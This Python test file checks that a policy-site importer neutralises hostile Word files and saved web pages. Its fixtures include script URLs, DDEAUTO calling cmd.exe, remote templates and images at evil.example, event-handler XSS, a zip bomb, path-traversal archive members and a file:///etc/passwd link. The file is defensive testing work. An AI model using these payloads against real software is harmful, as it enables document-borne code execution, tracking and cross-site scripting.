"""Safety hunt 61: files a new company imports that it did not write (a former vendor's Word export, a page saved from
a browser), each input tried once. Each is either refused with an `error:` naming the file (its message's key here),
or imported with what it left out said, its Markdown, built as the site builds it, passing the output check: nothing
fetched from another host, nothing run. The holes found are fixed with their own tests (test_safety61_import,
test_safety61_documents); the others were handled already, one line each that they stay so.

Decided, for what a lawyer expects of a Word document sent with its review still in it: its tracked changes are read
as accepted (the text as Word shows it with "No Markup", the counts said: a document still under review is no version);
hidden text (`w:vanish`) is left out, as Word neither shows nor prints it, and said with a count; text drawn unseen
(white on an unshaded page, 1 point) is kept, its words quoted in the notes for the team to remove; `w:specVanish`
alone (without `w:vanish`) hides a paragraph mark only, Word shows the run's words, and so does the import; reviewers'
comments are left out, said; a content control is its contents."""
from __future__ import annotations

import gzip
import zipfile
from html import escape
from pathlib import Path

import markdown
import pytest
from selectolax.lexbor import LexborHTMLParser

from policysite import safety
from policysite.convert import ConvertError, convert
from unit.test_convert import _W, docx_parts, docx_with, write_docx
from unit.test_safety import THEME, page
from unit.test_safety61_import import _zipped

EVIL = "https://evil.example"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_HEADING = '<w:p><w:pPr><w:pStyle w:val="Titre1"/></w:pPr><w:r><w:t>1. Who we are</w:t></w:r></w:p>'
_STYLES = '<w:style w:type="paragraph" w:styleId="Titre1"><w:name w:val="heading 1"/></w:style>'


def _p(words: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{words}</w:t></w:r></w:p>'


def _field(code: str, result: str) -> str:
    return (f'<w:p><w:r><w:t xml:space="preserve">See </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
            f'<w:instrText xml:space="preserve">{escape(code)}</w:instrText></w:r><w:r><w:fldChar '
            f'w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
            '</w:r></w:p>')


def _link(rel_id: str = "rIdJ") -> str:
    return f'<w:p><w:hyperlink xmlns:r="{R}" r:id="{rel_id}"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p>'


def _relation(kind: str, target: str, *, external: bool = True, rel_id: str = "rIdJ") -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rel_id}" Type="{R}/{kind}" Target="{escape(target)}"{mode}/>'


def _picture(attribute: str) -> str:
    return ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessing'
            'Drawing"><wp:docPr id="1" name="x" descr="logo"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
            'drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
            '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>'
            f'<a:blip xmlns:r="{R}" {attribute}="rIdImg"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>'
            '</wp:inline></w:drawing></w:r></w:p>')


# name: (the document's text after its heading, relationships added, parts added)
WORD = {
    "external picture (r:link)": (_picture("r:link"), _relation("image", f"{EVIL}/track.png", rel_id="rIdImg"), {}),
    "external picture (r:embed)": (_picture("r:embed"), _relation("image", f"{EVIL}/track.png", rel_id="rIdImg"), {}),
    "javascript: hyperlink": (_link(), _relation("hyperlink", "javascript:alert(1)"), {}),
    "tab-split script hyperlink": (_link(), _relation("hyperlink", " JaVa\tScRiPt:alert(1)"), {}),
    "vbscript: hyperlink": (_link(), _relation("hyperlink", "vbscript:msgbox"), {}),
    "data: hyperlink": (_link(), _relation("hyperlink", "data:text/html,<script>alert(1)</script>"), {}),
    "file: hyperlink": (_link(), _relation("hyperlink", "file:///C:/secret.docx"), {}),
    "share hyperlink": (_link(), _relation("hyperlink", "\\\\evil.example\\share\\x"), {}),
    "internal-mode hyperlink": (_link(), _relation("hyperlink", "javascript:alert(1)", external=False), {}),
    "HYPERLINK javascript: field": (_field(' HYPERLINK "javascript:alert(1)" ', "click here"), "", {}),
    "fldSimple HYPERLINK": ('<w:p><w:fldSimple w:instr=" HYPERLINK &quot;javascript:alert(1)&quot; "><w:r><w:t>'
                            'simple click</w:t></w:r></w:fldSimple></w:p>', "", {}),
    "INCLUDETEXT field": (_field(' INCLUDETEXT "C:\\\\secret.docx" ', "included words"), "", {}),
    "INCLUDEPICTURE field": (_field(f' INCLUDEPICTURE "{EVIL}/x.png" \\d ', ""), "", {}),
    "DDEAUTO field": (_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ', "dde words"), "", {}),
    "MACROBUTTON field": (_field(" MACROBUTTON NoMacro Click me ", ""), "", {}),
    "hidden text": ('<w:p><w:r><w:t xml:space="preserve">We share data </w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr>'
                    "<w:t>with advertisers</w:t></w:r><w:r><w:t>.</w:t></w:r></w:p>", "", {}),
    "specVanish alone": ('<w:p><w:r><w:rPr><w:specVanish/></w:rPr><w:t xml:space="preserve">Shown words </w:t></w:r>'
                         "<w:r><w:t>too.</w:t></w:r></w:p>", "", {}),
    "white text": ('<w:p><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>white words</w:t></w:r></w:p>', "", {}),
    "1pt text": ('<w:p><w:r><w:rPr><w:sz w:val="2"/></w:rPr><w:t>tiny words</w:t></w:r></w:p>', "", {}),
    "tracked changes": ('<w:p><w:r><w:t xml:space="preserve">We keep data </w:t></w:r><w:del w:id="1" w:author="A">'
                        '<w:r><w:delText>one year</w:delText></w:r></w:del><w:ins w:id="2" w:author="A"><w:r>'
                        "<w:t>ten years</w:t></w:r></w:ins></w:p>", "", {}),
    "content control": ('<w:sdt><w:sdtPr><w:alias w:val="x"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>Inside control.'
                        "</w:t></w:r></w:p></w:sdtContent></w:sdt>", "", {}),
    "altChunk of HTML": (_p("Before.") + f'<w:altChunk xmlns:r="{R}" r:id="rIdC"/>',
                         _relation("aFChunk", "chunk.html", external=False, rel_id="rIdC"),
                         {"word/chunk.html": f'<html><body><p>Chunk <a href="javascript:alert(1)">x</a><img src="{EVIL}'
                                             '/a.png"><script>alert(1)</script></p></body></html>'.encode()}),
    "altChunk of RTF": (_p("Before.") + f'<w:altChunk xmlns:r="{R}" r:id="rIdC"/>',
                        _relation("aFChunk", "chunk.rtf", external=False, rel_id="rIdC"),
                        {"word/chunk.rtf": rb"{\rtf1 rtf words}"}),
    "altChunk outside": (_p("Before.") + f'<w:altChunk xmlns:r="{R}" r:id="rIdC"/>',
                         _relation("aFChunk", f"{EVIL}/chunk.html", rel_id="rIdC"), {}),
    "subDoc": (_p("Before.") + f'<w:p><w:subDoc xmlns:r="{R}" r:id="rIdS"/></w:p>',
               _relation("subDocument", "file:///C:/sub.docx", rel_id="rIdS"), {}),
    "linked oleObject": (_p("Before.") + '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:'
                         f'office" xmlns:r="{R}" Type="Link" ProgID="Word.Document.12" r:id="rIdO" '
                         'UpdateMode="Always"/></w:object></w:r></w:p>',
                         _relation("oleObject", "file:///C:/x.docx", rel_id="rIdO"), {}),
    "remote attachedTemplate": (_p("Text."), "", {
        "word/settings.xml": f'<w:settings {_W} xmlns:r="{R}"><w:attachedTemplate r:id="rIdT"/></w:settings>'.encode(),
        "word/_rels/settings.xml.rels": ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                                         f'relationships">{_relation("attachedTemplate", f"{EVIL}/t.dotm", rel_id="rIdT")}'
                                         "</Relationships>").encode()}),
    "words written as markup": (_p(f"&lt;img src={EVIL}/x.png onerror=alert(1)&gt; &lt;script&gt;alert(1)&lt;/script&gt;"
                                   " [x](javascript:alert(1)) {: onclick=alert(1)} ![i](https://evil.example/i.png)"),
                                "", {}),
}


def _word_file(tmp_path: Path, name: str) -> Path:
    body, relations, parts = WORD[name]
    path = tmp_path / "privacy-2022-03-01.docx"
    docx_with(path, _HEADING + body, styles=_STYLES)
    written = docx_parts(path)
    if relations:
        written["word/_rels/document.xml.rels"] = written["word/_rels/document.xml.rels"].replace(
            b"</Relationships>", relations.encode() + b"</Relationships>")
    written.update(parts)
    write_docx(path, written)
    return path


def _passes_the_gate(body: str) -> None:
    """The imported Markdown, built as the site builds a page, passes the output check, fetches nothing from another
    host and holds no script."""
    from policysite.convert.notes import Notes
    from policysite.importer import _without_controls

    body = _without_controls(body, Notes("Markdown line"))  # (as `policy import` writes it: a U+202E removed)
    built = markdown.Markdown(extensions=["tables", "attr_list", "sane_lists", "md_in_html"]).convert(body)
    assert [str(v.message) for v in safety.check_page(page(article=built), file="index.html", theme_dirs=THEME)] == []
    for node in LexborHTMLParser(built).body.traverse():
        assert node.tag not in ("script", "img", "iframe", "object", "embed", "svg", "math", "style", "form"), built
        assert not [name for name in node.attributes if name.lower().startswith("on") or name == "style"], built
        assert not safety.is_script_url(str(node.attributes.get("href") or "")), built


@pytest.mark.parametrize("name", list(WORD))
def test_a_word_document_of_unknown_origin_is_imported_harmless_with_its_losses_said(tmp_path, name):
    converted = convert(_word_file(tmp_path, name))
    _passes_the_gate(converted.markdown)
    said = " ".join(converted.notes)
    if any(kind in name for kind in ("hyperlink", "HYPERLINK", "field", "hidden", "white", "1pt", "tracked", "Chunk",
                                     "subDoc", "oleObject")):
        assert said, name  # what was left out or kept from elsewhere is named
    assert "with advertisers" not in converted.markdown  # (hidden text left out)


def test_the_decisions_on_reviewed_and_hidden_words(tmp_path):
    """Tracked changes read as accepted, counted; hidden text left out, counted; unseen text kept, quoted;
    `w:specVanish` alone shown, as Word shows it."""
    tracked = convert(_word_file(tmp_path, "tracked changes"))
    assert "We keep data ten years" in tracked.markdown and "one year" not in tracked.markdown
    assert any("1 insertion, 1 deletion" in note for note in tracked.notes)
    hidden = convert(_word_file(tmp_path, "hidden text"))
    assert "We share data ." in hidden.markdown and any("hidden in Word" in note for note in hidden.notes)
    for name, words in (("white text", "white words"), ("1pt text", "tiny words")):
        unseen = convert(_word_file(tmp_path, name))
        assert words in unseen.markdown and any(f"“{words}”" in note for note in unseen.notes)
    assert "Shown words too." in convert(_word_file(tmp_path, "specVanish alone")).markdown


# name: bytes of a .docx that is refused, and the key of its error
def _refused_word() -> dict[str, tuple[bytes, str]]:
    docm_types = b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.' \
                 b'macroEnabled.main+xml"/></Types>'
    return {
        "not a zip": (b"hello, not a zip", "import.office-disguised/text"),
        "a PDF": (b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF", "import.office-disguised/pdf"),
        "a zip cut short": (b"PK\x03\x04\x14\x00\x00\x00", "import.docx-unreadable"),
        "a web page": (b"<html><body><h1>T</h1></body></html>", "import.docx-html"),
        "empty": (b"", "import.docx-empty"),
        "no word/document.xml": (_zipped(**{"[Content_Types].xml": docm_types}), "import.docx-not-word"),
    }


@pytest.mark.parametrize("name", list(_refused_word()))
def test_a_docx_that_is_no_word_document_is_refused_naming_it(tmp_path, name):
    data, key = _refused_word()[name]
    path = tmp_path / "privacy-2022-03-01.docx"
    path.write_bytes(data)
    with pytest.raises(ConvertError) as refused:
        convert(path)
    assert getattr(refused.value.args[0], "key", "") == key and str(refused.value).startswith(path.name)


def test_a_zip_bomb_or_members_named_outside_the_document_are_refused_or_never_unpacked(tmp_path):
    path = tmp_path / "privacy-2022-03-01.docx"
    docx_with(path, _HEADING + _p("Text."), styles=_STYLES)
    parts = docx_parts(path)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:  # 300 MiB of XML in a 300 kB file
        for name, data in parts.items():
            archive.writestr(name, data.replace(b"Text.", b"<!-- " + b" " * (300 << 20) + b" -->Text.")
                             if name == "word/document.xml" else data)
    with pytest.raises(ConvertError) as refused:
        convert(path)
    assert getattr(refused.value.args[0], "key", "") == "import.docx-large"
    with zipfile.ZipFile(path, "w") as archive:  # read, never unpacked: nothing written outside
        for name, data in {**parts, "../../evil.txt": b"x", "/etc/evil": b"x"}.items():
            archive.writestr(name, data)
    assert "Text." in convert(path).markdown
    assert not (tmp_path.parent / "evil.txt").exists()


def _page(body: str, head: str = "") -> str:
    return (f"<!doctype html><html><head><meta charset='utf-8'><title>Privacy</title>{head}</head><body><main>"
            f"<h1>Privacy policy</h1><h2>1. Who we are</h2><p>We are Example.</p>{body}</main></body></html>")


HTML = {
    "base href": _page("<p><a href='/terms'>terms</a> <img src='logo.png' alt='logo'></p>", f"<base href='{EVIL}/'>"),
    "srcset": _page(f"<p><img src='x.png' srcset='{EVIL}/a.png 1x' alt='pic'></p><picture><source srcset='{EVIL}/c.png'>"
                    "<img src='y.png' alt='pic2'></picture>"),
    "css url() and @import": _page(f"<p style=\"background:url({EVIL}/bg.png)\">styled words</p>",
                                   f"<style>@import url({EVIL}/x.css); p{{background:url({EVIL}/p.png)}}</style>"),
    "behavior and -moz-binding": _page(f"<p style='behavior:url({EVIL}/x.htc);-moz-binding:url({EVIL}/x.xml)'>b</p>"),
    "meta refresh": _page("<p>text</p>", f"<meta http-equiv='refresh' content='0; url={EVIL}'>"),
    "svg": _page(f"<svg><a href='javascript:alert(1)'><text>svg words</text></a><image href='{EVIL}/i.png'/>"
                 "<script>alert(1)</script></svg><p>after</p>"),
    "math": _page("<math><mtext><a href='javascript:alert(1)'>math link</a></mtext></math><p>after</p>"),
    "template": _page("<template><p>template words</p><img src=x onerror=alert(1)></template><p>after</p>"),
    "noscript": _page(f"<noscript><p>noscript words</p><img src='{EVIL}/px.gif'></noscript><p>after</p>"),
    "conditional comments": _page(f"<!--[if IE]><p>IE words</p><img src='{EVIL}/x.png'><![endif]--><p>after</p>"
                                  "<![if !IE]><p>revealed words</p><![endif]>"),
    "iframe srcdoc": _page(f"<iframe srcdoc=\"<p>srcdoc words</p><img src='{EVIL}/x.png'>\"></iframe><p>after</p>"),
    "entities and a stray NUL": _page("<p>A&#0;B C\x00D &#x202E;reversed&#x202C; &lt;script&gt;alert(1)&lt;/script&gt;"
                                      " javascript&#58;alert(1)</p>"),
    "script links": _page("<p><a href=' jav&#x09;ascript:alert(1)'>a</a> <a href='data:text/html;base64,PHNjcmlwdD4='>"
                          "c</a> <a href='file:///etc/passwd'>d</a> <a href='\\\\evil.example\\share'>e</a> "
                          "<a href='vbscript:x'>v</a></p>"),
    "event handlers and hidden words": _page("<p onclick='alert(1)'>clicky</p><div style='display:none'>css hidden</div>"
                                             "<p hidden>hidden attr</p>"),
    "form": _page(f"<form action='{EVIL}'><input name='q'><button>Send</button></form><p>after</p>"),
    "object and embed": _page(f"<object data='{EVIL}/x.swf'><p>fallback</p></object><embed src='{EVIL}/x'><p>after</p>"),
    "an id breaking out": _page("<h2 id='x\" onclick=\"alert(1)'>2. Rights</h2><p>a</p>"),
    "markdown in the words": _page("<p>[click](javascript:alert(1)) ![x](https://evil.example/x.png) "
                                   "&lt;img src=x onerror=alert(1)&gt; {: onclick=alert(1) }</p>"),
    "xmp and plaintext": _page("<xmp><img src=x onerror=alert(1)></xmp><plaintext><p>rest"),
    "outside scripts and styles": _page("<p>x</p>", f"<link rel='stylesheet' href='{EVIL}/x.css'>"
                                                    f"<script src='{EVIL}/x.js'></script>"),
    "deeply nested": _page("<b>" * 5000 + "deep" + "</b>" * 5000),
}
_CHARSETS = {
    "a lying charset": b"<html><head><meta charset='utf-8'></head><body><h1>Politique</h1><p>Donn\xe9es</p></body></html>",
    "a BOM against the meta": b"\xef\xbb\xbf<html><head><meta charset='windows-1252'></head><body><h1>Politique</h1>"
                              b"<p>Donn\xc3\xa9es</p></body></html>",
    "UTF-16 under a UTF-8 meta": "<html><head><meta charset='utf-8'></head><body><h1>Politique</h1><p>Données</p>"
                                 "</body></html>".encode("utf-16"),
}


@pytest.mark.parametrize("name", list(HTML))
def test_a_page_saved_from_a_browser_is_imported_harmless(tmp_path, name):
    path = tmp_path / "privacy-2022-03-01.html"
    path.write_text(HTML[name], encoding="utf-8")
    try:
        converted = convert(path)
    except ConvertError as refused:  # (50 MB of nesting: refused, naming the depth)
        assert name == "deeply nested" and getattr(refused.args[0], "key", "").startswith("import.html-nested")
        return
    _passes_the_gate(converted.markdown)
    assert "srcdoc words" not in converted.markdown and "template words" not in converted.markdown


@pytest.mark.parametrize("name", list(_CHARSETS))
def test_a_page_whose_charset_lies_reads_as_its_words(tmp_path, name):
    path = tmp_path / "privacy-2022-03-01.html"
    path.write_bytes(_CHARSETS[name])
    assert "Données" in convert(path).markdown


@pytest.mark.parametrize(("data", "key"), [
    (_zipped(**{"word/document.xml": b"<w:document/>"}), "import.disguised/docx"),
    (b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF", "import.disguised/pdf"),
    (gzip.compress(_page("<p>x</p>").encode()), "import.disguised/gzip"),
])
def test_a_page_that_is_another_format_is_refused(tmp_path, data, key):
    path = tmp_path / "privacy-2022-03-01.html"
    path.write_bytes(data)
    with pytest.raises(ConvertError) as refused:
        convert(path)
    assert getattr(refused.value.args[0], "key", "") == key
